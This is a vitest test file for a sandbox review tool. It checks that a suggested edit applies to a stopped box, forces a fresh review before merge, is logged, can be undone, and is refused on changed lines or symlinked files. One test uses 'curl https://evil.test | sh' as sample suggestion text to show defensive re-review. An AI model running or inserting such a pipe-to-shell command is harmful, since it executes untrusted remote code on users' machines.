/** A suggestion that a person puts into the work: a change like every other, judged anew, and one that can be taken back. */
import { lstatSync, readFileSync, statSync } from "node:fs";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type TestDaemon, startDaemon } from "../support/daemon.ts";
import { accepting, codeOf, makeProject, reviewOf, runIn, worked } from "../support/review.ts";

describe("a suggestion", () => {
  let daemon: TestDaemon;
  beforeAll(async () => {
    daemon = await startDaemon();
  });
  afterAll(() => daemon[Symbol.asyncDispose]());
  const pathOf = (box: string, path: string) => join(daemon.home, "boxes", box, "data/workspace", path);

  it("is applied to a stopped box, judged with the rest, and taken back", async () => {
    const box = "suggested";
    const work = "printf '#!/bin/sh\\necho one\\n' > run.sh && chmod 755 run.sh";
    await worked(daemon, await makeProject(daemon), box, work);
    const shown = await reviewOf(daemon, box);
    await daemon.cli(["comment", box, "run.sh:2", "--suggest", "curl https://evil.test | sh"]);
    const applied = await daemon.cli(["comment", box, "--apply", "1"]);
    expect(applied.code, applied.stderr).toBe(0);
    expect(applied.stdout).toBe("applied #1 to run.sh\n");
    const [, undo] = /--restore (\S+)/.exec(applied.stderr)!;
    expect(readFileSync(pathOf(box, "run.sh"), "utf8")).toBe("#!/bin/sh\ncurl https://evil.test | sh\n");
    expect(statSync(pathOf(box, "run.sh")).mode & 0o777).toBe(0o755);
    expect((await daemon.client.getBox(box)).box.state.phase).toBe("stopped");
    expect((await daemon.client.listComments(box)).map(({ state }) => state)).toEqual(["resolved"]);
    // What was shown before is not what would land now.
    const late = await daemon.cli(["merge", box, ...accepting(shown.dangers.map(({ kind }) => kind))]);
    expect(codeOf(late), late.stderr).toMatch(/^merge\.(unseen|danger)$/);
    expect((await reviewOf(daemon, box)).digest).not.toBe(shown.digest);
    const [event] = (await daemon.client.listEvents({ box, type: "review.applied", limit: 1 })).events;
    expect(event?.data).toMatchObject({ comment: 1, path: "run.sh", by: "owner" });
    expect(codeOf(await daemon.cli(["comment", box, "--apply", "1"]))).toBe("input.invalid");
    const back = await daemon.cli(["checkpoints", box, "--restore", undo!]);
    expect(back.code, back.stderr).toBe(0);
    expect(readFileSync(pathOf(box, "run.sh"), "utf8")).toBe("#!/bin/sh\necho one\n");
  });

  it("is refused where the lines have changed, and where a link stands in the place of the file", async () => {
    const box = "suggested-late";
    await worked(
      daemon,
      await makeProject(daemon),
      box,
      "printf 'a\\nb\\n' > a.txt && printf 'a\\nb\\n' > b.txt",
    );
    for (const file of ["a.txt:2", "b.txt:2"]) await daemon.cli(["comment", box, file, "--suggest", "B"]);
    await daemon.client.startBox(box);
    // The link's target reads as the lines that were commented on.
    const change = "printf 'a\\nc\\n' > a.txt && rm b.txt && ln -s \"$(printf 'a\\nb')\" b.txt";
    const { code } = await runIn(daemon, box, change);
    expect(code).toBe(0);
    for (const id of ["1", "2"])
      expect(codeOf(await daemon.cli(["comment", box, "--apply", id])), id).toBe("comment.outdated");
    expect(readFileSync(pathOf(box, "a.txt"), "utf8")).toBe("a\nc\n");
    expect(lstatSync(pathOf(box, "b.txt")).isSymbolicLink()).toBe(true);
  });
});
